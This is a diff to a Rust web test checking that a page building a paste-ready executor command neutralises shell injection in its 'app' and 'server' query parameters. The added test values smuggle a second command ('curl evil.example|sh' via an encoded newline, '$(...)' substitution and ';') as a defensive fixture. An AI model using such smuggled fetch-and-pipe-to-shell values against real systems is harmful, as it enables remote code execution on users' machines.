@@ -199,4 +199,9 @@ async fn the_fleet_shows_servers_and_switches_apps() {
     assert!(text.contains("--server https://r.example") && text.contains("executor:default/billing"), "{text}");
     let answer = visitor.get("/executors/new?app=$(rm)&server=%3Cb%3E").await.text();
     assert!(!answer.contains("--app $(rm)") && !answer.contains("<b>'"), "{answer}");
+    for server in ["http://a%0Acurl+evil.example%7Csh%0A", "http://$(curl+evil.example%7Csh)", "a;curl+evil.example"] {
+        let text = visitor.get(&format!("/executors/new?app=billing&server={server}")).await.text();
+        assert!(text.contains("executor:default/billing"), "{text}");
+        assert!(!text.contains("curl evil.example"), "a link must put no command into what users paste: {text}");
+    }
 }
